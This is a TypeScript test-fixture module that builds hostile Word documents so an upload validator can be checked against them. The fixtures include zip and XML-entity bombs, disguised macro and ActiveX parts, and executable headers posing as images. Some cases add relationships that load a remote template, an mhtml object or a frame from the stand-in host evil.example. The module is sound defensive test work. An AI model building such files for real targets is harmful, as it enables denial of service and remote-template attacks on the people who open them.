/** Word documents of which the content is hostile: it unpacks to far more, runs, or loads something. */
import { randomBytes } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { buildArchive, type Packed } from './archives.ts';
import { buildDoc, buildDocx, contentTypes, RELS, relations, TYPES } from './documents.ts';
import { docx, type Hostile } from './uploads.ts';

const MEGABYTE = 1024 * 1024;

/** Zeros, packed: what they unpack to is a thousand times as long. */
function zeros(megabytes: number): Buffer {
  return deflateRawSync(Buffer.alloc(megabytes * MEGABYTE), { level: 9 });
}

/** Documents that unpack to more than they may. */
export function bombs(): Hostile[] {
  const large = /unpacks to far more/;
  const gigabytes = zeros(200);
  const tight = zeros(50);
  const shared = zeros(1);
  const text = (packed: Buffer, declared: number): Packed => ({
    name: 'word/document.xml',
    content: '',
    packed,
    declared,
  });
  return [
    ['2 GB that are declared', docx(buildDocx(text(gigabytes, 2 ** 31))), large],
    ['200 MB that are declared', docx(buildDocx(text(gigabytes, 200 * MEGABYTE))), large],
    ['200 MB declared as 10 kB', docx(buildDocx(text(gigabytes, 10_000))), large],
    ['200 MB declared as 0', docx(buildDocx(text(gigabytes, 0))), large],
    ['50 MB of zeros', docx(buildDocx(text(tight, 50 * MEGABYTE))), large],
    [
      '150 MB in pieces of a megabyte',
      docx(
        buildDocx(
          ...Array.from({ length: 150 }, (_, index) => ({
            name: `word/media/${index}.bmp`,
            content: '',
            packed: shared,
            declared: MEGABYTE,
          })),
        ),
      ),
      large,
    ],
    [
      '200 MB in a list of relations',
      docx(buildDocx({ name: RELS, content: '', packed: gigabytes, declared: 20_000 })),
      large,
    ],
    [
      '3,000 files',
      docx(
        buildDocx(
          ...Array.from({ length: 3000 }, (_, index) => ({ name: `word/${index}.xml`, content: '' })),
        ),
      ),
      large,
    ],
    [
      'files that overlap',
      docx(
        buildDocx(
          { name: 'word/media/0.bmp', content: Buffer.alloc(MEGABYTE) },
          ...Array.from({ length: 50 }, (_, index) => ({
            name: `word/media/${index + 1}.bmp`,
            content: Buffer.alloc(MEGABYTE),
            sharedWith: 'word/media/0.bmp',
          })),
        ),
      ),
      /incomplete|not made by Word/,
    ],
    [
      'entities that grow',
      docx(
        buildDocx({
          name: 'word/document.xml',
          content: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>`,
        }),
      ),
      /not made by Word/,
    ],
  ];
}

/** Documents that hold or load what could run. */
export function programs(): Hostile[] {
  const macros = /contains macros\. Save it as a plain \.docx without macros, or as a PDF/;
  const inside = /another file inside/;
  const remote = /loads content from the internet/;
  const container = Buffer.concat([buildDoc(), randomBytes(100)]);
  const windows = Buffer.alloc(300);
  windows.write('MZ');
  windows.writeUInt32LE(128, 60);
  windows.write('PE\0\0', 128);
  const starts: Record<string, Buffer> = {
    'a ZIP archive': buildArchive([{ name: 'a.txt', content: 'a' }]),
    'an empty ZIP archive': buildArchive([]),
    RAR: Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'),
    '7z': Buffer.from("7z\u00bc\u00af'\u001c", 'latin1'),
    gzip: gzipSync('a'),
    'a program of Windows': windows,
    'a program of Linux': Buffer.from('\u007fELF\u0002\u0001', 'latin1'),
    'an OLE container': container,
    'a shortcut': Buffer.from('4c0000000114020000000000', 'hex'),
    RTF: Buffer.from('{\\rtf1 \\object}'),
    tar: Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\0'), Buffer.alloc(100)]),
  };
  const type = (value: string) =>
    docx(
      buildDocx({ name: TYPES, content: contentTypes(`<Default Extension="bin" ContentType="${value}"/>`) }),
    );
  const related = (...lines: Parameters<typeof relations>) =>
    docx(buildDocx({ name: RELS, content: relations(...lines) }));
  return [
    ...[
      'word/vbaProject.bin',
      'word/VBAPROJECT.BIN',
      'vbaproject.bin',
      'a/b/vba%50roject.bin',
      'word/vbaData.xml',
    ].map((name): Hostile => [`${name}`, docx(buildDocx({ name, content: container })), macros]),
    ['macros by content type', type('application/vnd.ms-office.vbaProject'), macros],
    ['macros by a disguised content type', type('application/vnd.ms-office.vba&#80;roject'), macros],
    [
      'a .docm under another name',
      docx(
        buildDocx({
          name: TYPES,
          content: contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
        }),
      ),
      macros,
    ],
    [
      'macros by relation',
      docx(
        buildDocx({
          name: RELS,
          content:
            '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin" Id="a"/></Relationships>',
        }),
      ),
      macros,
    ],
    ['ActiveX', docx(buildDocx({ name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' })), /ActiveX/],
    [
      'an embedded spreadsheet',
      docx(
        buildDocx({ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: starts['a ZIP archive']! }),
      ),
      inside,
    ],
    [
      'an OLE object',
      docx(buildDocx({ name: 'word/embeddings/oleObject1.bin', content: container })),
      inside,
    ],
    ...Object.entries(starts).map(
      ([what, content]): Hostile => [
        `${what} as a picture`,
        docx(buildDocx({ name: 'word/media/image1.png', content })),
        inside,
      ],
    ),
    ['a template from the web', related(['attachedTemplate', 'https://evil.example/a.dotm', true]), remote],
    ['an object from the web', related(['oleObject', 'mhtml:http://evil.example/a.html!x', true]), remote],
    ['a frame from the web', related(['frame', '&#104;ttp://evil.example/', true]), remote],
    [
      'relations in another encoding',
      docx(
        buildDocx({
          name: RELS,
          content: Buffer.from(
            `\ufeff${relations(['attachedTemplate', 'https://evil.example/', true])}`,
            'utf16le',
          ),
        }),
      ),
      /not made by Word/,
    ],
  ];
}
